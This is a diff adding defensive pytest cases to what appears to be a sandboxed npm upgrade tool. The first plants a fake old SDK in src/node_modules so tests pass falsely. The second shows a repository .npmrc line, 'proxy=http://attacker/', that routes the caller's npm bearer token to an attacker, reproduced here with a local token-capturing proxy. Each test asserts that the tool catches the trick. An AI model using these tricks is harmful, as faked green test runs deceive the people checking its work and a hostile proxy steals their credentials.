@@ -222,3 +222,92 @@ def test_a_package_json_nested_past_the_parsers_depth_is_bad_input_naming_it(
     m = result.manifest  # type: ignore[attr-defined]
     assert result.code == 2 and m["status"] == "bad_input", m["reason"]  # type: ignore[attr-defined]
     assert m["reason"].startswith("package.json: not valid JSON: nested deeper than this tool reads")
+
+
+# The repository's own test helper: "test fixtures" that put a 1.x client where node looks first for
+# require("acme-sdk") from src/ (src/node_modules), so the service's code never loads the installed SDK.
+PLANTS_AN_OLD_SDK = """const fs = require("fs"), path = require("path");
+const dir = path.join(__dirname, "..", "src", "node_modules", "acme-sdk");
+fs.mkdirSync(dir, { recursive: true });
+fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify({ name: "acme-sdk", main: "client" }));
+fs.writeFileSync(path.join(dir, "client"), [
+  "class Client { constructor(u) { this.baseUrl = u; } fetch(p) { return { url: this.baseUrl + p }; } }",
+  "module.exports = { Client, connect: (u) => new Client(u), VERSION: '1.0.0' };",
+].join("\\n"));
+"""
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
+@pytest.mark.skipif(sandbox.probe() is not None, reason=f"bwrap cannot start here: {sandbox.probe()}")
+def test_an_old_sdk_the_tests_write_into_a_node_modules_below_the_root_is_never_green(
+    npm_repo: Path, registry: str, run_codemod: Callable[..., object]
+) -> None:
+    """The 2.0.0 bump breaks the app's tests (the plain task ends exit 3). With a helper that writes a 1.x
+    client into src/node_modules/acme-sdk as the tests start, src/orders.js loaded it in both runs while
+    the canary, in test/, found the installed package: green, exit 0, run.json naming 2.0.0, nothing
+    committed. A new package where node looks packages up is now tampering, whatever its suffix."""
+    (npm_repo / "test" / "helper.js").write_text(PLANTS_AN_OLD_SDK)
+    for name in ("orders", "reports"):
+        test_file = npm_repo / "test" / f"{name}.test.js"
+        test_file.write_text(
+            test_file.read_text().replace('"use strict";\n', '"use strict";\nrequire("./helper");\n')
+        )
+    subprocess.run([*GIT, "add", "-A"], cwd=npm_repo, check=True)
+    subprocess.run([*GIT, "commit", "-qm", "test fixtures"], cwd=npm_repo, check=True)
+    result = run_codemod(npm_repo, TASKS / "acme-sdk-2-plain.yml", packages=False)
+    m = result.manifest  # type: ignore[attr-defined]
+    assert result.code == 3 and m["status"] == "requires_human", m["reason"]
+    baseline = m["verifications"][0]
+    assert not baseline["passed"] and baseline["tampered"] == [
+        "src/node_modules/acme-sdk/client (new file where modules are resolved)",
+        "src/node_modules/acme-sdk/package.json (new file where modules are resolved)",
+    ], baseline
+    assert "src/node_modules/acme-sdk/client" in m["reason"]
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
+@pytest.mark.skipif(sandbox.probe() is not None, reason=f"bwrap cannot start here: {sandbox.probe()}")
+def test_a_proxy_the_repository_names_never_sees_the_callers_token(
+    npm_repo: Path,
+    registry: str,
+    run_codemod: Callable[..., object],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """One line in the repository's .npmrc, `proxy=http://attacker/`: the caller set no proxy, so npm sent
+    every registry request of the installs, with the caller's `Authorization: Bearer` token, through it
+    (the run was green). The run now stops before npm runs, naming the line; the proxy sees nothing."""
+    import http.server
+    import threading
+
+    seen: list[str] = []
+
+    class Proxy(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            seen.append(f"{self.path} {self.headers.get('Authorization')}")
+            self.send_response(502)
+            self.end_headers()
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    token = "npm_PROXIED" + "5" * 24
+    user = tmp_path / "user.npmrc"
+    user.write_text(f"//{registry.removeprefix('http://').rstrip('/')}/:_authToken={token}\n")
+    monkeypatch.setenv("NPM_CONFIG_USERCONFIG", str(user))
+    (npm_repo / ".npmrc").write_text(f"proxy=http://127.0.0.1:{server.server_address[1]}/\n")
+    subprocess.run([*GIT, "add", "-A"], cwd=npm_repo, check=True)
+    subprocess.run([*GIT, "commit", "-qm", "npmrc"], cwd=npm_repo, check=True)
+    try:
+        result = run_codemod(npm_repo, TASKS / "acme-sdk-1.1-plain.yml", packages=False)
+    finally:
+        server.shutdown()
+    m = result.manifest  # type: ignore[attr-defined]
+    assert seen == []
+    assert result.code != 0 and m["status"] != "succeeded", m["reason"]  # type: ignore[attr-defined]
+    assert ".npmrc line 1: `proxy` may not be set by the repository" in m["reason"], m["reason"]
+    assert not m["verifications"]
